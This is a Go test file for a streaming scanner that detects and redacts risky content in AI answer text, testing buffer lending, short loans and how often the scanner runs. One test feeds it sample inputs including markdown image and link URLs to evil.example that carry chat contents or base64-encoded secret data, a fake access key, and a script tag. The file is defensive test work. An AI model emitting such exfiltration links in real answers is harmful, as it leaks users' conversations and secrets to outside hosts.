package check

import (
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"unsafe"
)

// poisonLender lends buffers for Stream.UseBuffers and, at each new loan, overwrites every buffer it lent but the
// last (which the stream is moving out of), as if a buffer the stream outgrew were reused at once: a stream that
// still read an outgrown buffer would see garbage. (The filter's lender keeps them until the exchange ends; this
// is stricter.)
type poisonLender struct {
	lent [][]byte
	asks []int
}

func (l *poisonLender) lend(n int) []byte {
	for _, b := range l.lent[:max(len(l.lent)-1, 0)] {
		b = b[:cap(b)]
		for i := range b {
			b[i] = 0xff
		}
	}
	l.asks = append(l.asks, n)
	b := make([]byte, 0, n)
	l.lent = append(l.lent, b)
	return b
}

// TestStreamUseBuffers: a stream collecting 1 MiB of text with findings all through it in lent buffers reports
// what a whole-text scan reports and releases Apply's text, exactly as without a lender; its text lives in the
// last lent buffer (none of its own: the outputguard filter lends pooled buffers in TinyGo builds, and an
// append-grown 1 MiB text left to TinyGo's collector stayed pinned), it asks for a few doubling buffers only, and
// Text shares that buffer instead of copying 1 MiB.
func TestStreamUseBuffers(t *testing.T) {
	k := allChecks(t, nil)
	redactAll := func(Finding) bool { return true }
	var b strings.Builder
	for i := 0; b.Len() < 1<<20; i++ {
		b.WriteString(streamCorpus[i%len(streamCorpus)])
		b.WriteString(" Ordinary prose about bridges and the loads their arches carry, nothing to see here.\n")
	}
	text := b.String()
	rnd := rand.New(rand.NewSource(1))
	var cuts []int
	for c := rnd.Intn(200); c < len(text); c += 1 + rnd.Intn(200) {
		cuts = append(cuts, c)
	}
	want := k.Scan(text)
	if len(want) < 1000 {
		t.Fatalf("only %d findings in the test text", len(want))
	}
	wantText := Apply(text, want, redactAll)

	run := func(l *poisonLender) (*Stream, []Finding, string) {
		st := k.NewStream(redactAll)
		if l != nil {
			st.UseBuffers(l.lend)
		}
		var out strings.Builder
		var fs []Finding
		prev := 0
		for i, c := range append(cuts, len(text)) {
			ready, found := st.Push(i, text[prev:c])
			fs = append(fs, found...)
			for _, p := range ready {
				out.WriteString(p.Text)
			}
			prev = c
		}
		ready, found := st.Close()
		fs = append(fs, found...)
		for _, p := range ready {
			out.WriteString(p.Text)
		}
		return st, fs, out.String()
	}
	_, plainFound, plainOut := run(nil)
	l := &poisonLender{}
	st, found, out := run(l)
	if !reflect.DeepEqual(found, want) || !reflect.DeepEqual(plainFound, want) {
		t.Fatalf("findings: %d with lent buffers, %d without, %d in a whole-text scan", len(found), len(plainFound), len(want))
	}
	if out != wantText || plainOut != wantText {
		t.Fatalf("released text differs from Apply's (with lent buffers: %v, without: %v)", out == wantText, plainOut == wantText)
	}
	if got := st.Text(); got != text {
		t.Fatalf("Text: %d bytes, want the %d pushed", len(got), len(text))
	}
	last := l.lent[len(l.lent)-1]
	if unsafe.StringData(st.Text()) != unsafe.SliceData(last) {
		t.Error("the text is not in the last lent buffer (or Text copied it)")
	}
	// 16 KiB doubling to 1 MiB: 7 loans, each at least twice the one before
	if len(l.asks) > 8 {
		t.Errorf("%d loans for 1 MiB of text: %v", len(l.asks), l.asks)
	}
	for i := 1; i < len(l.asks); i++ {
		if l.asks[i] < 2*l.asks[i-1] {
			t.Errorf("loan %d: %d bytes after %d (not doubling): %v", i, l.asks[i], l.asks[i-1], l.asks)
		}
	}
}

// TestStreamShortLoan: a lender that gives less room than asked does not lose text (the stream appends as
// without a lender).
func TestStreamShortLoan(t *testing.T) {
	k := allChecks(t, nil)
	st := k.NewStream(nil)
	st.UseBuffers(func(int) []byte { return make([]byte, 0, 10) })
	piece := strings.Repeat("plain words ", 2000)
	for i := 0; i < 3; i++ {
		st.Push(i, piece)
	}
	st.Close()
	if st.Text() != piece+piece+piece {
		t.Fatal("text lost")
	}
}

// TestStreamRunsWhenDecidable: a push that cannot decide anything (the scanner waits at the start of a line for
// its end, and the piece brings no line end) does not run the scanner; on make bench's streamed answer most
// pushes are such pushes, and the findings and released text are those of a run per push (a whole-text scan's).
func TestStreamRunsWhenDecidable(t *testing.T) {
	_, deltas := benchExchange(t)
	redact := func(f Finding) bool { return f.CanRedact }
	for _, tc := range []struct {
		name  string
		k     *Checker
		extra string
	}{
		{"default", defaultCompiled(t), ""},
		{"default+key", defaultCompiled(t), "And the key AKIAZ7QW3ERT5YUI8OPL, see ![x](https://evil.example/a.png?q=the+whole+chat+so+far) now.\n"},
		{"all", allChecks(t, nil), "Secret [doc](https://evil.example/?d=c2VjcmV0IGRhdGEgaGVyZQ==) and <script>x()</script>\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			pieces := append([]string(nil), deltas...)
			if tc.extra != "" {
				// the extra text in 7-byte pieces, half-way through
				mid := len(pieces) / 2
				var add []string
				for i := 0; i < len(tc.extra); i += 7 {
					add = append(add, tc.extra[i:min(i+7, len(tc.extra))])
				}
				pieces = append(append(pieces[:mid:mid], add...), deltas[mid:]...)
			}
			text := strings.Join(pieces, "")
			want := tc.k.Scan(text)
			st := tc.k.NewStream(redact)
			var fs []Finding
			var out strings.Builder
			for i, p := range pieces {
				ready, found := st.PushLent(i, p)
				fs = append(fs, found...)
				for _, r := range ready {
					out.WriteString(r.Text)
				}
			}
			ready, found := st.Close()
			fs = append(fs, found...)
			for _, r := range ready {
				out.WriteString(r.Text)
			}
			if !reflect.DeepEqual(fs, want) {
				t.Fatalf("findings %+v\nwant %+v", fs, want)
			}
			if out.String() != Apply(text, want, redact) {
				t.Fatal("released text differs from Apply's")
			}
			if len(want) == 0 && tc.extra != "" {
				t.Fatal("the extra text has no finding")
			}
			if tc.name != "all" && st.runs*3 > len(pieces) {
				t.Errorf("the scanner ran on %d of %d pushes", st.runs, len(pieces))
			}
			t.Logf("%d runs for %d pushes, %d findings", st.runs, len(pieces), len(fs))
		})
	}
}
